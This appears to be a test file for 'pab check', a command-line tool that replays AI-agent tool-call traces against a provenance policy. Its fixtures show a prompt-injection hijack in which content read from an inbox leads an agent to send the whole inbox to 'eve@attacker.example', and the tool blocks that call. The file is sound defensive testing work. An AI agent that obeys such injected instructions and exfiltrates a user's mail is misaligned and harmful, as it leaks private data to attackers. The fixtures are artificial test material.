import assert from "node:assert/strict";
import { memoryIo, type MemoryIoOptions, runCli } from "../adapters/cli/mod.ts";

const ROOT = new URL("../", import.meta.url);
const ESC = String.fromCharCode(27);
const ANSI = new RegExp(`${ESC}\\[\\d+m`, "g");
const POLICY = "traces/examples/demo.policy.yaml";
const OPENAI = "traces/examples/hijack.openai.json";
const PAB = "traces/examples/hijack.pab.jsonl";

async function examples(): Promise<Record<string, string>> {
  const files: Record<string, string> = {};
  for (const path of [POLICY, OPENAI, PAB]) files[path] = await Deno.readTextFile(new URL(path, ROOT));
  return files;
}

async function pab(args: string[], options: MemoryIoOptions = {}) {
  const memory = memoryIo({ ...options, files: { ...(await examples()), ...options.files } });
  const code = await runCli(args, memory.io, { version: "0.0.0-test" });
  return { code, stdout: memory.stdout(), stderr: memory.stderr() };
}

const HIJACK_TEXT = `\
ALLOW   traces/examples/hijack.openai.json#call_read_inbox read_inbox()
BLOCK   traces/examples/hijack.openai.json#call_send_eve send_email(to='eve@attacker.example', subject='Inbox', body='Everything in the inbox, as asked.')
  - [untrusted-argument] to='eve@attacker.example' appears only in untrusted input from tool:read_inbox
  - [tainted-context] context contains untrusted input from tool:read_inbox
  way to yes: none in this policy: [untrusted-argument] no approver's mandate covers [untrusted-argument]; only a value a trusted source supplied (the user, or a tool the policy trusts) or the allow list passes
CONFIRM traces/examples/hijack.openai.json#call_send_alice send_email(to='alice@corp.example', subject='Inbox summary', body='Summary of your inbox: Bob says the Q3 report is final (r...')
  - [tainted-context] context contains untrusted input from tool:read_inbox
  + to='alice@corp.example' comes from user
  way to yes: confirm with the user (covers tainted-context)
3 calls in 1 trace: 1 allowed, 1 to confirm, 1 blocked
`;

Deno.test("pab check blocks the hijacked send_email and asks to confirm the legitimate one", async () => {
  const result = await pab(["check", "--policy", POLICY, OPENAI]);
  assert.deepEqual(result, { code: 1, stdout: HIJACK_TEXT, stderr: "" });
});

Deno.test("pab check under a provenance-only policy blocks the hijack and allows the user's own recipient", async () => {
  const policy = "traces/examples/provenance.policy.yaml";
  const files = { [policy]: await Deno.readTextFile(new URL(policy, ROOT)) };
  const result = await pab(["check", "--policy", policy, OPENAI], { files });
  assert.equal(result.code, 1);
  assert.equal(result.stderr, "");
  const lines = result.stdout.split("\n");
  assert.match(
    lines[1],
    /^BLOCK {3}traces\/examples\/hijack\.openai\.json#call_send_eve send_email\(to='eve@attacker\.example'/,
  );
  assert.equal(
    lines[2],
    "  - [untrusted-argument] to='eve@attacker.example' appears only in untrusted input from tool:read_inbox",
  );
  assert.match(
    lines[4],
    /^ALLOW {3}traces\/examples\/hijack\.openai\.json#call_send_alice send_email\(to='alice@corp\.example'/,
  );
  assert.equal(lines.at(-2), "3 calls in 1 trace: 2 allowed, 1 blocked");
  const json = await pab(["check", "--json", "--policy", policy, OPENAI], { files });
  const calls = JSON.parse(json.stdout).calls;
  assert.deepEqual(calls.map((call: { decision: string }) => call.decision), ["allow", "block", "allow"]);
});

Deno.test("pab check --json prints every call with its file, line, reasons, vouching, notes and way to yes", async () => {
  const result = await pab(["check", "--json", "-p", POLICY, OPENAI]);
  assert.equal(result.code, 1);
  assert.equal(result.stderr, "");
  const json = JSON.parse(result.stdout);
  assert.equal(json.schemaVersion, 1);
  assert.equal(json.policy, POLICY);
  assert.deepEqual(json.summary, { traces: 1, calls: 3, allowed: 1, confirm: 1, blocked: 1 });
  assert.deepEqual(json.calls[0], {
    trace: OPENAI,
    file: OPENAI,
    line: 15,
    id: "call_read_inbox",
    tool: "read_inbox",
    args: {},
    decision: "allow",
    reasons: [],
    vouching: [],
    notes: [],
    wayToYes: null,
    ran: true,
  });
  assert.deepEqual(json.calls[1].reasons, [
    {
      code: "untrusted-argument",
      message: "to='eve@attacker.example' appears only in untrusted input from tool:read_inbox",
    },
    { code: "tainted-context", message: "context contains untrusted input from tool:read_inbox" },
  ]);
  assert.equal(json.calls[1].wayToYes.found, false);
  assert.match(json.calls[1].wayToYes.text, /^way to yes: none in this policy: /);
  assert.deepEqual(json.calls[2].vouching, [{ argument: "to", value: "alice@corp.example", sources: ["user"] }]);
  assert.deepEqual(json.calls[2].wayToYes, {
    found: true,
    steps: [{ kind: "ruling", approver: "user", covers: ["tainted-context"] }],
    text: "way to yes: confirm with the user (covers tainted-context)",
  });
  const lines = (await examples())[OPENAI].split("\n");
  for (const call of json.calls) assert.match(lines[call.line - 1], new RegExp(`"${call.id}"`));
  const pabTrace = JSON.parse((await pab(["check", "--json", "-p", POLICY, PAB])).stdout);
  assert.deepEqual(pabTrace.calls.map((call: { line: number }) => call.line), [4, 7, 8]);
  assert.equal(pabTrace.calls[1].actor, "attacker");
});

Deno.test("pab check replays several traces, named by their ids", async () => {
  const result = await pab(["check", "--policy", POLICY, OPENAI, PAB]);
  assert.equal(result.code, 1);
  const lines = result.stdout.split("\n").filter((line) => /^[A-Z]/.test(line)).map((line) => line.split(" (")[0]);
  assert.deepEqual(lines.map((line) => line.replace(/\(.*$/, "")), [
    "ALLOW   traces/examples/hijack.openai.json#call_read_inbox read_inbox",
    "BLOCK   traces/examples/hijack.openai.json#call_send_eve send_email",
    "CONFIRM traces/examples/hijack.openai.json#call_send_alice send_email",
    "ALLOW   hijack#call_read_inbox read_inbox",
    "BLOCK   hijack#call_send_eve send_email",
    "CONFIRM hijack#call_send_alice send_email",
  ]);
  assert.match(result.stdout, /\n6 calls in 2 traces: 2 allowed, 2 to confirm, 2 blocked\n$/);
});

Deno.test("pab check exits 0 when every call is allowed", async () => {
  const trace = [
    '{"pab":"trace","schemaVersion":1,"id":"clean"}',
    '{"type":"user","content":"Send the notes to alice@corp.example"}',
    '{"type":"call","id":"1","tool":"send_email","args":{"to":"alice@corp.example"}}',
  ].join("\n");
  const result = await pab(["check", "--policy", POLICY, "clean.jsonl"], { files: { "clean.jsonl": trace } });
  assert.deepEqual(result, {
    code: 0,
    stdout: "ALLOW   clean#1 send_email(to='alice@corp.example')\n" +
      "  + to='alice@corp.example' comes from user\n" +
      "1 call in 1 trace: 1 allowed\n",
    stderr: "",
  });
});

Deno.test("pab check colours decisions only on a terminal without NO_COLOR", async () => {
  const plain = await pab(["check", "--policy", POLICY, OPENAI], { isTerminal: false });
  const coloured = await pab(["check", "--policy", POLICY, OPENAI], { isTerminal: true });
  const noColor = await pab(["check", "--policy", POLICY, OPENAI], { isTerminal: true, noColor: true });
  assert.ok(!plain.stdout.includes(ESC));
  assert.ok(!noColor.stdout.includes(ESC));
  assert.ok(coloured.stdout.startsWith(`${ESC}[32mALLOW  ${ESC}[39m `));
  assert.ok(coloured.stdout.includes(`\n${ESC}[31mBLOCK  ${ESC}[39m `));
  assert.equal(coloured.stdout.replaceAll(ANSI, ""), plain.stdout);
});

Deno.test("pab check reports unlabelled data at a check instead of guessing a cast, and names the approvers", async () => {
  const policy = `
version: 1
approvers:
  legal: {mandate: [unlabelled, tainted-context]}
casts:
  wiki_search: {cast: wiki, ceiling: {readers: all, trust: trusted}}
tools:
  send_email:
    output: trusted
    recipients: [{arg: to}]
`;
  const trace = [
    '{"pab":"trace","schemaVersion":1,"id":"t"}',
    '{"type":"call","id":"w","tool":"wiki_search","args":{}}',
    '{"type":"result","id":"w","content":"page"}',
    '{"type":"call","id":"s","tool":"send_email","args":{"to":"x@corp.example"}}',
  ].join("\n");
  const result = await pab(["check", "--policy", "p.yaml", "t.jsonl"], {
    files: { "p.yaml": policy, "t.jsonl": trace },
  });
  assert.equal(result.stderr, "");
  assert.equal(result.code, 1);
  assert.match(result.stdout, /BLOCK {3}t#s send_email\(to='x@corp\.example'\)\n/);
  assert.match(
    result.stdout,
    /\n {2}- \[unlabelled\] wiki_search: cast wiki failed: casts are code registered by the agent, and pab check cannot run them\n/,
  );
  assert.match(result.stdout, /way to yes: ask approver "legal" for a ruling on this exact call/);
});

async function assertBadInput(args: string[], files: Record<string, string>, message: RegExp) {
  const result = await pab(args, { files });
  assert.equal(result.code, 2, result.stderr);
  assert.equal(result.stdout, "");
  assert.match(result.stderr, message);
  assert.doesNotMatch(result.stderr, /\n\s+at /, "no stack trace");
}

Deno.test("pab check exits 2 on a missing policy file", async () => {
  await assertBadInput(
    ["check", "--policy", "missing.yaml", OPENAI],
    {},
    /^error: Cannot read policy "missing\.yaml": no such file or directory \(check the path\)\n$/,
  );
});

Deno.test("pab check exits 2 on a policy with bad YAML", async () => {
  await assertBadInput(
    ["check", "--policy", "bad.yaml", OPENAI],
    { "bad.yaml": "version: 1\ntools:\n  send_email: {args: [\n" },
    /^error: Cannot load policy "bad\.yaml": 1 issue\n {2}- at line \d+, column \d+: invalid YAML: .+ \(fix the YAML syntax there\)\n$/,
  );
});

Deno.test("pab check exits 2 on an invalid policy, listing every issue", async () => {
  await assertBadInput(
    ["check", "--policy", "bad.yaml", OPENAI],
    { "bad.yaml": "version: 1\ntools:\n  send_email:\n    args:\n      to: {requre: trusted}\n" },
    /^error: Cannot load policy "bad\.yaml": 1 issue\n {2}- at tools\.send_email\.args\.to\.requre: unknown key "requre" \(did you mean "require"\?\)\n$/,
  );
});

Deno.test("pab check exits 2 on a trace with a malformed line, naming file and line", async () => {
  const trace = '{"pab":"trace","schemaVersion":1,"id":"t"}\n{"type":"user","content":"hi"}\n{"type":"call", oops}\n';
  await assertBadInput(
    ["check", "--policy", POLICY, "OK.json", "broken.jsonl"],
    { "broken.jsonl": trace, "OK.json": '[{"role":"user","content":"hi"}]' },
    /^error: Cannot read trace broken\.jsonl:3: the line is not valid JSON \(.+\) \(write exactly one JSON object per line\)\n$/,
  );
});

Deno.test("pab check exits 2 on a missing trace file", async () => {
  await assertBadInput(
    ["check", "--policy", POLICY, "nope.jsonl"],
    {},
    /^error: Cannot read trace "nope\.jsonl": no such file or directory \(check the path\)\n$/,
  );
});

Deno.test("pab check exits 2 on bad usage and says where the usage is", async () => {
  const usage = /\nRun "pab check --help" for usage\.\n$/;
  await assertBadInput(["check", OPENAI], {}, /^error: missing --policy FILE/);
  await assertBadInput(["check", "--policy", POLICY], {}, /^error: name at least one trace file/);
  await assertBadInput(
    ["check", "--polcy", POLICY, OPENAI],
    {},
    /^error: unknown option --polcy \(did you mean --policy\?\)/,
  );
  await assertBadInput(["check", "--json=yes", "-p", POLICY, OPENAI], {}, /^error: option --json takes no value/);
  await assertBadInput(["check", "-p"], {}, usage);
  await assertBadInput(["check", "--policy", "p.txt", OPENAI], { "p.txt": "" }, /unknown extension \(name it \.yaml/);
});

Deno.test("pab check --help prints its usage on stdout", async () => {
  const result = await pab(["check", "--help"]);
  assert.equal(result.code, 0);
  assert.match(result.stdout, /^Usage: pab check --policy FILE \[OPTIONS\] TRACE\.\.\.\n/);
  assert.match(result.stdout, /\n {2}-q, --quiet {2,}Print nothing on stdout/);
  assert.equal(result.stderr, "");
});
